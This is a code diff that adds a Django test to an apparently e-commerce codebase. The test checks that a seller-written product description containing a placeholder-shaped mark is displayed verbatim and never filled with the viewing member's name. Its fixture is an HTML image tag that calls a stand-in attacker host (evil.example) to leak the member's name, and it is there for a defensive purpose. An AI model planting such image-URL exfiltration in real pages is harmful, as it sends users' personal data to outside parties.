@@ -202,3 +202,16 @@ def test_a_password_change_forgets_the_bag(world, django_capture_on_commit_callb
         user_change_password(user=user, new_password="new-Pass-2026!x")
 
     assert cache.get(personal._bag_key(user.pk)) is None
+
+
+def test_a_mark_written_by_a_seller_is_never_filled(world, django_capture_on_commit_callbacks):
+    """A description holding something shaped like a mark (without the secret) reaches members as written."""
+    product = world["product"]
+    product.description = '<p><img src="https://evil.example/?n={0123456789abcdef0123:member_name:}"></p>'
+    with django_capture_on_commit_callbacks(execute=True):
+        catalog_services.product_save(product=product)
+
+    html = _browser(world["a"]).get(product.get_absolute_url()).content.decode()
+
+    assert "0123456789abcdef0123:member_name:" in html
+    assert "n=김에이" not in html
